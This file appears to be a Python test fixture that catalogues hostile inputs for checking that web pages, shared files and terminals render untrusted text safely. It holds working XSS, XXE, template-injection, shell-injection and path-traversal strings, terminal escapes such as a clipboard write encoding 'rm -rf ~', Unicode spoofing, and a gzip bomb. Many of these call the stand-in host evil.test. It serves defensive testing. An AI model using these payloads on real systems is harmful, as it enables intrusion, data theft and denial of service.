"""Hostile text, which has to stay text wherever it comes from: on the page, in a shared file and in a terminal.

Whatever runs sets `window.pwned`, adds an element named `pwned`, or asks `evil.test`. `@@` in a payload is replaced by a
marker, so that a test finds it wherever it is shown.
"""

import gzip
import json
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

EVIL = "evil.test"
_RUN = "window.pwned=1"
_ASK = f"http://{EVIL}/@@"


@dataclass(frozen=True)
class Payload:
    """One hostile text."""

    name: str
    kind: str
    make: str | Callable[[], bytes]
    """The text, or what makes its bytes."""
    is_shown: bool = True
    """Whether the page shows it letter by letter; else its marker alone is looked for, since parts are shown as escapes."""
    is_heavy: bool = False
    """Too large for heads and names; stands in bodies alone."""
    coding: str = ""
    """Content-Encoding of the body that it stands in."""

    @property
    def marker(self) -> str:
        """What is looked for; no two payloads have one."""
        return f"m-{PAYLOADS.index(self)}-m"

    @property
    def data(self) -> bytes:
        """Its bytes as they stand in a body."""
        return _data(self)

    @property
    def text(self) -> str:
        """The same as text; bytes that are no UTF-8 as lone surrogates, as Python writes them."""
        return self.data.decode("utf-8", "surrogateescape")


@cache
def _data(payload: Payload) -> bytes:
    if isinstance(payload.make, str):
        made = payload.make.replace("@@", payload.marker)
        return made.encode("utf-8", "surrogatepass")
    return payload.make().replace(b"@@", payload.marker.encode())


def _html(name: str, text: str) -> Payload:
    return Payload(name, "html", text)


_MARKUP = (
    _html("script", f"@@<script>{_RUN}</script>"),
    _html("script from elsewhere", f'@@<script src="{_ASK}"></script>'),
    _html("end of a script", f"@@</script><script>{_RUN}</script>"),
    _html("end of a script in a comment", f"@@<!--<script>--></script><script>{_RUN}</script>"),
    _html("module", f'@@<script type=module>import "{_ASK}"</script>'),
    _html("image", f"@@<img id=pwned src=x onerror={_RUN}>"),
    _html("image in capitals", f"@@<IMG ID=pwned SRC=x OnErRoR={_RUN}>"),
    _html("image that is not closed", f"@@<img id=pwned src=x onerror={_RUN}//"),
    _html("image with slashes", f"@@<img/id=pwned/src=x/onerror={_RUN}>"),
    _html("image from elsewhere", f'@@<img id=pwned src="{_ASK}">'),
    _html("set of images", f'@@<img id=pwned srcset="{_ASK} 1x, {_ASK} 2x">'),
    _html("out of a double quote", f'@@" onfocus="{_RUN}" autofocus="'),
    _html("out of a single quote", f"@@' onfocus='{_RUN}' autofocus='"),
    _html("out of no quote", f"@@ onfocus={_RUN} autofocus "),
    _html("out of a backtick", f"@@` onfocus=`{_RUN}` autofocus"),
    _html("out of a tag", f'@@"><script>{_RUN}</script>'),
    _html("out of a title", f"@@</title><script>{_RUN}</script>"),
    _html("out of a text area", f"@@</textarea><script>{_RUN}</script>"),
    _html("out of a style", f"@@</style><script>{_RUN}</script>"),
    _html("out of a comment", f"@@--><script>{_RUN}</script>"),
    _html("out of a template", f"@@</template><script>{_RUN}</script>"),
    _html("out of CDATA", f"@@]]><script>{_RUN}</script>"),
    _html("noscript", f'@@<noscript><p title="</noscript><img id=pwned src=x onerror={_RUN}>">'),
    _html("details", f"@@<details id=pwned open ontoggle={_RUN}>"),
    _html("input", f"@@<input id=pwned autofocus onfocus={_RUN}>"),
    _html("media", f"@@<video id=pwned><source onerror={_RUN}></video>"),
    _html("body", f"@@<body onload={_RUN}>"),
    _html("frame", f'@@<iframe id=pwned src="javascript:parent.{_RUN}"></iframe>'),
    _html(
        "frame with a document",
        f'@@<iframe id=pwned srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    ),
    _html("object", f'@@<object id=pwned data="{_ASK}"></object>'),
    _html("embed", f'@@<embed id=pwned src="{_ASK}">'),
    _html("base", f'@@<base href="http://{EVIL}/">'),
    _html("refresh", f'@@<meta http-equiv=refresh content="0;url={_ASK}">'),
    _html(
        "policy",
        "@@<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    ),
    _html("style sheet", f'@@<link rel=stylesheet href="{_ASK}">'),
    _html(
        "prefetch", f'@@<link rel=prefetch href="{_ASK}"><link rel=dns-prefetch href="//{EVIL}">'
    ),
    _html("form", f'@@<form id=pwned action="{_ASK}"><button>Approve</button></form>'),
    _html("button of another form", f'@@<button id=pwned formaction="{_ASK}">Approve</button>'),
    _html("clobbered names", "@@<a id=pwned><a id=pwned name=ownerDocument><img name=body>"),
    _html(
        "shadow root",
        f"@@<div id=pwned><template shadowrootmode=open><img src=x onerror={_RUN}></template></div>",
    ),
    _html("popover", f"@@<button id=pwned popovertarget=x onclick={_RUN}>Approve</button>"),
    _html("entities", f"@@&lt;img id=pwned src=x onerror={_RUN}&gt;"),
    _html("entities by number", f"@@&#60;img id=pwned src=x onerror={_RUN}&#62;"),
    _html("percent", f"@@%3Cimg%20id=pwned%20src=x%20onerror={_RUN}%3E"),
    _html("escapes of JavaScript", f"@@\\u003cimg id=pwned src=x onerror={_RUN}\\u003e"),
    _html("wide brackets", f"@@\uff1cimg id=pwned src=x onerror={_RUN}\uff1e"),
    _html("many open tags", "@@" + "<b><i><div>" * 400),
    _html("ARIA", '@@<div role=button aria-label="Approve refund:4" tabindex=0 id=pwned>'),
)

_SVG = (
    Payload("svg that loads", "svg", f"@@<svg id=pwned onload={_RUN}>"),
    Payload("svg with a script", "svg", f"@@<svg id=pwned><script>{_RUN}</script></svg>"),
    Payload("svg with a use", "svg", f'@@<svg id=pwned><use href="{_ASK}#x"/></svg>'),
    Payload("svg with a foreign object", "svg", f"@@<svg id=pwned><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>"),
    Payload("svg with an animation", "svg", f'@@<svg id=pwned><a><animate attributeName=href values="javascript:{_RUN}"/>'),
    Payload("mathematics", "svg", f"@@<math><mtext><table><mglyph><style><img id=pwned src=x onerror={_RUN}>"),
    Payload("entities of XML", "svg", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>@@&x;</svg>'),
    Payload("billion laughs", "svg", '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>@@&b;</a>'),
)  # fmt: skip

_CSS = (
    Payload("style", "css", f"@@<style>*{{background:url({_ASK})}}</style>"),
    Payload("import", "css", f"@@<style>@import '{_ASK}';</style>"),
    Payload("end of a declaration", "css", f"@@;background:url({_ASK});position:fixed;inset:0"),
    Payload("attribute of style", "css", f'@@" style="background:url({_ASK})'),
    Payload("expression", "css", f"@@expression({_RUN})"),
    Payload("overlay", "css", "@@<div id=pwned style='position:fixed;inset:0;z-index:9999'>Approve</div>"),
)  # fmt: skip

_TEMPLATES = (
    Payload("Jinja's expression", "template", "@@{{ 7*191 }}"),
    Payload("Jinja's configuration", "template", "@@{{ config.__class__.__init__.__globals__ }}"),
    Payload("Jinja's statement", "template", "@@{% include '/etc/passwd' %}{% raw %}"),
    Payload("Jinja's end of raw", "template", "@@{% endraw %}{{ 7*191 }}{# "),
    Payload("Python's format", "template", "@@{0.__class__} %(pwned)s %s {}"),
    Payload("template literal", "template", f"@@${{{_RUN}}} ` ${{7*191}}"),
    Payload("server's tags", "template", "@@<%= 7*191 %> #{7*191} <?php echo 7*191 ?>"),
    Payload("Vue and Angular", "template", "@@{{constructor.constructor('window.pwned=1')()}} [[7*191]]"),
    Payload("replacement patterns", "template", "@@$& $` $' $1 $<x> \\1"),
)  # fmt: skip

_SCHEMES = (
    Payload("javascript", "scheme", f"javascript:{_RUN}//@@"),
    Payload("javascript in capitals", "scheme", f"JaVaScRiPt:{_RUN}//@@"),
    Payload("javascript with entities", "scheme", f"java&#x0A;script:{_RUN}//@@"),
    Payload("javascript behind a blank", "scheme", f" \u00a0javascript:{_RUN}//@@"),
    Payload("vbscript", "scheme", "vbscript:msgbox(1)//@@"),
    Payload("data with a page", "scheme", f"data:text/html,@@<script>{_RUN}</script>"),
    Payload("data with base64", "scheme", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==;@@"),
    Payload("data with a picture", "scheme", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>@@"),
    Payload("file", "scheme", "file:///etc/passwd#@@"),
    Payload("blob", "scheme", "blob:http://127.0.0.1/@@"),
    Payload("of a handler", "scheme", "ms-msdt:/id @@"),
    Payload("of a mail", "scheme", "mailto:a@b.test?body=@@"),
    Payload("address", "scheme", f"see {_ASK} and www.{EVIL}/@@"),
    Payload("address with a name before it", "scheme", f"http://127.0.0.1@{EVIL}/@@"),
    Payload("address without a scheme", "scheme", f"//{EVIL}/@@"),
    Payload("address with backslashes", "scheme", f"\\\\{EVIL}\\@@"),
    Payload("address that looks like another", "scheme", "http://\u0430\u0440\u0440le.test/@@"),
    Payload("link of Markdown", "scheme", f"[Approve](javascript:{_RUN}) [@@]({_ASK})"),
    Payload("picture of Markdown", "scheme", f"![@@]({_ASK}.png)"),
    Payload("markup in Markdown", "scheme", f"# @@\n<details open ontoggle={_RUN}>\n```html\n</code></pre><script>{_RUN}</script>\n```"),
)  # fmt: skip


def _terminal(name: str, text: str) -> Payload:
    return Payload(name, "terminal", text, is_shown=False)


_TERMINAL = (
    _terminal("colour", "@@\x1b[31mred\x1b[0m"),
    _terminal("cleared screen", "@@\x1b[2J\x1b[3J\x1b[Happroved"),
    _terminal("cursor moved up", "@@\x1b[1A\x1b[2Kapproved"),
    _terminal("title of the window", "@@\x1b]0;pwned\x07"),
    _terminal("link of a terminal", f"@@\x1b]8;;{_ASK}\x1b\\click\x1b]8;;\x1b\\"),
    _terminal("clipboard (OSC 52)", "@@\x1b]52;c;cm0gLXJmIH4K\x07"),
    _terminal("notification (OSC 9)", "@@\x1b]9;pwned\x1b\\"),
    _terminal("picture (OSC 1337)", "@@\x1b]1337;File=inline=1:AAAA\x07"),
    _terminal("device control", "@@\x1bP+q544e\x1b\\"),
    _terminal("report of the terminal", "@@\x1b[6n\x1b[c\x1b[>c"),
    _terminal("alternative screen", "@@\x1b[?1049h\x1b[?1003h"),
    _terminal("escape of one byte (C1)", "@@\x9b31mred\x9d52;c;AAAA\x9c"),
    _terminal("carriage return", "@@ denied\r@@ approved"),
    _terminal("backspaces", "@@ denied\b\b\b\b\b\bapproved"),
    _terminal("bell, form feed, shift out", "@@\x07\x0c\x0b\x0e\x7f"),
    _terminal("sequence that does not end", "@@\x1b]52;c;" + "A" * 1000),
)

_UNICODE = (
    _terminal("right to left", "@@ \u202egnp.exe"),
    _terminal("isolates", "@@ \u2066\u2067access\u2069\u2069 \u061c\u200e\u200f"),
    _terminal("source that lies", "@@ if admin: \u202e\u2066# begin\u2069 \u2066return\u2069"),
    _terminal("tags (hidden ASCII)", "@@" + "".join(chr(0xE0000 + ord(one)) for one in "pay eve") + "."),
    _terminal("no width", "@@ re\u200bfu\u200cnd\u2060s\ufeff"),
    _terminal("variation selectors", "@@ \u2764" + "\ufe0f\ufe00" * 50 + "".join(chr(0xE0100 + n) for n in range(20))),
    Payload("marks without end", "unicode", "@@ Z" + "\u0301\u0489\u035f" * 600, is_shown=False),
    Payload("soft hyphens and blanks", "unicode", "@@ a\u00adb\u00a0c\u2003d\u3000e", is_shown=False),
    Payload("letters that look alike", "unicode", "@@ r\u0435fund \u0440aypal", is_shown=False),
    Payload("family of one character", "unicode", "@@" + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200, is_shown=False),
    _terminal("no characters", "@@\ufffe\uffff\U0001fffe"),
    _terminal("line and paragraph separators", f"@@\u2028{_RUN}\u2029{_RUN}"),
    _terminal("lone surrogates", "@@\ud83d and \udc00"),
    Payload("widest character", "unicode", "@@ \ufdfd\U00012031 \u1242b", is_shown=False),
)  # fmt: skip


def _bytes(name: str, make: bytes) -> Payload:
    return Payload(name, "bytes", lambda: make, is_shown=False)


_BYTES = (
    _bytes("broken UTF-8", b"@@ \xff\xfe\xc3\x28 \xe2\x82 \xf0\x90\x28\xbc"),
    _bytes("overlong UTF-8", b"@@ \xc0\xbcscript\xc0\xbe \xe0\x80\xaf"),
    _bytes("surrogates in UTF-8", b"@@ \xed\xa0\xbd\xed\xb0\x80"),
    _bytes("UTF-7", b"@@ +ADw-script+AD4-window.pwned=1+ADw-/script+AD4-"),
    _bytes("UTF-16 without a mark", "@@<script>window.pwned=1</script>".encode("utf-16-le") + b"@@"),
    _bytes("ISO-2022-JP", b"@@ \x1b$B<img id=pwned src=x>\x1b(B"),
    _bytes("NUL", b"@@ <scr\0ipt>window.pwned=1</scr\0ipt>"),
    _bytes("every byte", b"@@ " + bytes(range(256))),
    _bytes("mark of byte order", b"\xef\xbb\xbf@@ {}"),
)  # fmt: skip


def _json(name: str, text: str) -> Payload:
    return Payload(name, "json", text, is_shown=False)


_JSON = (
    _json("prototype", '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}, "a": "@@"}'),
    _json("names of methods", '{"toString": 1, "hasOwnProperty": 2, "length": -1, "then": "@@"}'),
    _json("a key twice", '{"amount": 1, "amount": 4900, "a": "@@"}'),
    _json("keys of markup", '{"<img id=pwned src=x onerror=window.pwned=1>": "@@", "": 1, "\\u0000": 2}'),
    _json("numbers", '[1e999, -1e999, 1e-999, 123456789012345678901234567890, 0.1e1, -0, 2e308, "@@"]'),
    _json("no JSON", '{"a": NaN, b: Infinity, \'c\': "@@",}'),
    _json("cut JSON", '{"a": [{"b": "@@'),
    _json("escaped markup", '{"a": "@@\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e"}'),
    _json("escaped surrogates", '{"a": "\\ud83d \\udc00\\ud83d @@"}'),
    _json("JSON in JSON in JSON", json.dumps({"a": json.dumps({"b": json.dumps({"c": "@@<b>"})})})),
)  # fmt: skip

_SHELL = (
    Payload("command in a run's name", "shell", "@@; touch pwned; $(touch pwned) `touch pwned`"),
    Payload("quote in a run's name", "shell", "@@' 'touch pwned' \"$HOME\" \\ && touch pwned"),
    Payload("flag in a run's name", "shell", "--store=pwned @@"),
    Payload("glob and history", "shell", "@@ * ~ !! !touch"),
    Payload("path in a run's name", "shell", "../../@@/../etc/passwd"),
    Payload("words of an address", "shell", "@@?seq=1&view=raw#x%2f%00+ /steps/1"),
)


def _heavy(name: str, make: Callable[[], bytes], coding: str = "") -> Payload:
    return Payload(name, "heavy", make, is_shown=False, is_heavy=True, coding=coding)


_MB = 1_000_000
_HEAVY = (
    _heavy("a line of 10 MB", lambda: b"@@" + b"a" * 10 * _MB),
    _heavy("a line of 10 MB of markup", lambda: b"@@" + b"<b>" * (10 * _MB // 3)),
    _heavy("a million lines", lambda: b"@@" + b"\n" * _MB),
    _heavy("a text of 10 MB in JSON", lambda: b'{"@@": "' + b"\\u0041" * (10 * _MB // 6) + b'"}'),
    _heavy("a hundred thousand brackets", lambda: b'["@@", ' + b"[" * 100_000 + b"]" * 100_000 + b"]"),
    _heavy("brackets that do not close", lambda: b'{"a":' * 100_000 + b'"@@'),
    _heavy("a million keys", lambda: b'{"@@": 0' + b"".join(b', "%d": 0' % n for n in range(_MB)) + b"}"),
    _heavy("a million numbers", lambda: b'["@@"' + b", 1" * _MB + b"]"),
    _heavy("a number of a million digits", lambda: b'{"@@": 1' + b"0" * _MB + b"}"),
    _heavy("a word of a million letters without a break", lambda: b"@@" + "\u0e01".encode() * _MB),
    _heavy("ten thousand fields of a form", lambda: b"@@=1" + b"".join(b"&a%d=%%3Cb%%3E" % n for n in range(10_000))),
    _heavy("a bomb of gzip", lambda: gzip.compress(b"@@" + bytes(50 * _MB), mtime=0), "gzip"),
    _heavy("no gzip", lambda: b"\x1f\x8b\x08\x00@@ broken", "gzip"),
    _heavy("an event stream of a hundred thousand events", lambda: b"data: @@\n\n" + b"data: {}\n\n" * 100_000),
)  # fmt: skip

PAYLOADS = (
    *_MARKUP,
    *_SVG,
    *_CSS,
    *_TEMPLATES,
    *_SCHEMES,
    *_TERMINAL,
    *_UNICODE,
    *_BYTES,
    *_JSON,
    *_SHELL,
    *_HEAVY,
)
"""Every payload; a place in this list makes its marker."""
